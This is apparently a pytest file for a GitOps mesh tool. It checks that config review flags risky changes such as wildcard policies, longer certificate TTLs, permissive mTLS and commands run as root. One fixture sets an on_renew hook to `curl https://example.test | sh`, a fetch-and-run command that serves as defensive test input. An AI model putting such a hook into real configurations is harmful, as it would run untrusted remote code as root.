from __future__ import annotations

import copy

from factories import age_recipient, identity, make_mesh, policy, ssh_recipient, web_api_mesh
from gitops_helpers import mesh_of

from meshops.gitops.warnings import review_warnings


def _codes(before: dict | None, after: dict, **kw: int) -> list[str]:
    old = mesh_of(before) if before is not None else None
    return [w.code for w in review_warnings(old, mesh_of(after), **kw)]


def test_no_change_no_warning() -> None:
    data = web_api_mesh()
    assert _codes(data, copy.deepcopy(data)) == []


def test_new_wildcard_policy_is_flagged_but_an_unchanged_one_is_not() -> None:
    before = web_api_mesh()
    after = copy.deepcopy(before)
    after["policies"].append(policy("open", "*", "db"))
    assert _codes(before, after) == ["wildcard-policy"]
    messages = [w.message for w in review_warnings(mesh_of(before), mesh_of(after))]
    assert messages == ["new policy 'open' allows any caller (from: '*'), any method, any path"]
    assert _codes(after, copy.deepcopy(after)) == []


def test_existing_policy_widened_to_any_method_is_flagged() -> None:
    before = web_api_mesh()
    after = copy.deepcopy(before)
    after["policies"][0]["allow"][0]["methods"] = ["*"]
    assert _codes(before, after) == ["wildcard-policy"]


def test_longer_ttls_are_flagged_shorter_ones_are_not() -> None:
    before = web_api_mesh()
    longer = copy.deepcopy(before)
    longer["identities"]["admin"]["ttl"] = "36h"
    longer["ca"]["node_ca_ttl"] = "1440h"
    assert _codes(before, longer) == ["longer-ttl", "longer-ttl"]
    shorter = copy.deepcopy(before)
    shorter["identities"]["admin"]["ttl"] = "12h"
    assert _codes(before, shorter) == []


def test_security_relevant_setting_changes_are_flagged() -> None:
    before = make_mesh(ca={"recipients": [age_recipient(0), age_recipient(1)]})
    after = copy.deepcopy(before)
    after["ca"]["recipients"] = [age_recipient(0)]
    after["mtls"] = {"mode": "permissive", "min_tls": "1.2"}
    del after["nodes"]["node-3"]
    after["nodes"]["node-2"]["recipient"] = ssh_recipient(5)
    assert _codes(before, after) == [
        "ca-recipient-removed",
        "node-removed",
        "node-recipient-changed",
        "mtls-permissive",
        "min-tls-lowered",
    ]


def test_new_identity_on_every_node_is_flagged() -> None:
    before = make_mesh(nodes=4)
    after = copy.deepcopy(before)
    after["identities"]["agent"] = identity(["node-1", "node-2", "node-3", "node-4"])
    assert _codes(before, after) == ["identity-on-many-nodes"]
    some = copy.deepcopy(before)
    some["identities"]["agent"] = identity(["node-1", "node-2"])
    assert _codes(before, some) == []
    assert _codes(before, some, many_nodes=2) == ["identity-on-many-nodes"]


def test_a_root_key_type_change_warns_of_the_rotation_it_starts() -> None:
    before = web_api_mesh()
    after = copy.deepcopy(before)
    after["ca"]["key_type"] = "ecdsa-p384"
    assert _codes(before, after) == ["root-rotation"]
    (warning,) = review_warnings(mesh_of(before), mesh_of(after))
    assert "ecdsa-p256 -> ecdsa-p384" in warning.message and "three applies" in warning.message


def test_new_or_changed_commands_and_paths_outside_etc_meshops_are_named() -> None:
    """What hosts will run as root, and where they will write (issue 14)."""
    from factories import proxy

    from meshops.gitops.review import build_review
    from meshops.report.review_json import review_to_dict
    from meshops.report.review_markdown import render_markdown
    from meshops.report.review_text import render_text

    before = web_api_mesh()
    after = copy.deepcopy(before)
    web = after["identities"]["web"]
    web["proxy"] = proxy("caddy", 8443, reload=["systemctl", "reload", "caddy"],
                         config="/etc/caddy/conf.d/web.caddy")  # fmt: skip
    web["on_renew"] = [["sh", "-c", "curl https://example.test | sh"]]
    web["outputs"] = {"dir": "/etc/ssl/private"}
    after["identities"]["admin"]["outputs"] = {"dir": "/etc/meshops/out/admin"}  # inside: quiet
    warnings = review_warnings(mesh_of(before), mesh_of(after))
    assert [(w.code, w.message) for w in warnings] == [
        ("runs-command", "new proxy reload of identity 'web' runs `systemctl reload caddy` "
                         "as root on node-1"),
        ("runs-command", "new on_renew command of identity 'web' runs "
                         "`sh -c 'curl https://example.test | sh'` as root on node-1"),
        ("writes-outside-meshops", "new proxy.config of identity 'web' writes to "
                                   "/etc/caddy/conf.d/web.caddy, outside /etc/meshops, as root "
                                   "on node-1"),
        ("writes-outside-meshops", "new outputs.dir of identity 'web' writes to "
                                   "/etc/ssl/private, outside /etc/meshops, as root on node-1"),
    ]  # fmt: skip
    assert _codes(after, copy.deepcopy(after)) == []  # unchanged: nothing to say

    changed = copy.deepcopy(after)
    changed["identities"]["web"]["proxy"]["reload"] = ["pkill", "-HUP", "caddy"]
    assert [w.message for w in review_warnings(mesh_of(after), mesh_of(changed))] == [
        "changed proxy reload of identity 'web' runs `pkill -HUP caddy` as root on node-1"
    ]

    from gitops_helpers import snap

    review = build_review(snap(before, "main"), snap(after))
    markdown, text = render_markdown(review), render_text(review)
    for needle in ("systemctl reload caddy", "/etc/ssl/private", "/etc/caddy/conf.d/web.caddy"):
        assert needle in text
        assert needle in markdown.replace("\\", "")
    codes = [w["code"] for w in review_to_dict(review)["warnings"]]
    assert codes.count("runs-command") == 2 and codes.count("writes-outside-meshops") == 2
